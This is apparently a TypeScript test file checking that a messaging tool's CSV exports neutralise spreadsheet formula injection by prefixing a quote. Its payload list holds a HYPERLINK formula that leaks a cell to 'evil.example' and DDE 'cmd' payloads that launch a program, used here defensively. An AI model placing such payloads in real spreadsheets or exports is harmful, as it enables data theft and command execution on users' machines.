// CSV formula injection (OWASP "CSV injection"): every cell Megaphone writes for a spreadsheet — the campaign
// contacts export, the directory export (both through safeCsvLine; cli/campaigns.test.ts and cli/contacts.test.ts
// check the files the commands write) and the blank template CSV — opens as text, never as a formula.
import { Template } from "@megaphone/core"
import { Result } from "effect"
import fc from "fast-check"
import { describe, expect, it } from "vitest"
import { csvLine, type Delimiter, neutralise, parseCsv, safeCsvLine } from "../../src/campaigns/Csv.ts"
import * as Rows from "../../src/campaigns/Rows.ts"

const template = (fields: Record<string, unknown>): Template.Template =>
  Result.getOrThrow(Template.decode({ category: "UTILITY", status: "APPROVED", ...fields }))

// What a spreadsheet (Excel, LibreOffice, Google Sheets) may read as the start of a formula.
const FORMULA_START = /^[=+\-@\t\r]/
const DELIMITERS: ReadonlyArray<Delimiter> = [",", ";", "\t"]

const PAYLOADS = [
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "+420601123456"
]

/** Every cell of a written CSV, read back as a spreadsheet would split it. */
const cellsOf = (text: string, delimiter: Delimiter): ReadonlyArray<string> =>
  Result.getOrThrow(parseCsv(text, delimiter)).flatMap((row) => row.cells)

describe("neutralise and safeCsvLine", () => {
  it("puts a ' before a cell starting with = + - @ tab or CR, and keeps it otherwise", () => {
    for (const payload of PAYLOADS) expect(neutralise(payload)).toBe(`'${payload}`)
    for (const plain of ["Praha", "a=1", " =1", "'=1", "", "420601123456", "Novák, Jan", "x\t=1"]) expect(neutralise(plain)).toBe(plain)
  })

  it("writes every payload as text, quoted where it must be, whatever the delimiter", () => {
    for (const delimiter of DELIMITERS) {
      const text = safeCsvLine(PAYLOADS, delimiter)
      expect(cellsOf(text, delimiter)).toEqual(PAYLOADS.map((p) => `'${p}`))
    }
    expect(safeCsvLine(["=HYPERLINK(\"http://x\")", "ok"])).toBe("\"'=HYPERLINK(\"\"http://x\"\")\",ok\r\n")
  })

  it("no cell of any line read back starts a formula (property)", () => {
    const cell = fc.oneof(fc.string(), fc.constantFrom(...PAYLOADS), fc.tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r"), fc.string()).map(([start, rest]) => start + rest))
    fc.assert(fc.property(fc.array(cell, { minLength: 1, maxLength: 6 }), fc.constantFrom(...DELIMITERS), (cells, delimiter) => {
      const read = cellsOf(safeCsvLine(cells, delimiter), delimiter)
      // A row of one empty cell reads back as no row (a blank line); every other row comes back cell for cell.
      if (!(cells.length === 1 && cells[0] === "")) expect(read.map((c, i) => c === cells[i] ? c : c.slice(1))).toEqual(cells)
      for (const c of read) expect(FORMULA_START.test(c)).toBe(false)
    }), { numRuns: 500 })
  })

  it("the plain writer does not neutralise: it is only for cells Megaphone itself controls", () => {
    expect(csvLine(["=1+1"])).toBe("=1+1\r\n")
  })
})

describe("the blank template CSV (template-csv)", () => {
  it("writes Meta's examples and the template's texts as text, even when they start a formula", () => {
    const hostile = template({
      id: "9",
      name: "hostile",
      language: "cs",
      components: [
        { type: "HEADER", format: "TEXT", text: "=HYPERLINK(\"http://evil\") {{1}}", example: { header_text: ["@SUM(1)"] } },
        { type: "BODY", text: "+1 {{1}} -2 {{2}}", example: { body_text: [["=cmd|' /C calc'!A0", "-3+3"]] } }
      ]
    })
    const blank = Rows.blankCsv(hostile)
    const cells = cellsOf(blank.csv, ",")
    expect(cells.length).toBeGreaterThan(4)
    for (const c of cells) expect([c, FORMULA_START.test(c)]).toEqual([c, false])
    // The examples are there, behind their '.
    expect(cells).toEqual(expect.arrayContaining(["'=cmd|' /C calc'!A0", "'-3+3"]))
    for (const delimiter of DELIMITERS) {
      const guide = Rows.guideCsv({ template: "hostile", language: "cs", header: blank.header, texts: blank.texts, example: blank.example }, delimiter)
      for (const c of cellsOf(guide, delimiter)) expect([delimiter, c, FORMULA_START.test(c)]).toEqual([delimiter, c, false])
    }
  })
})
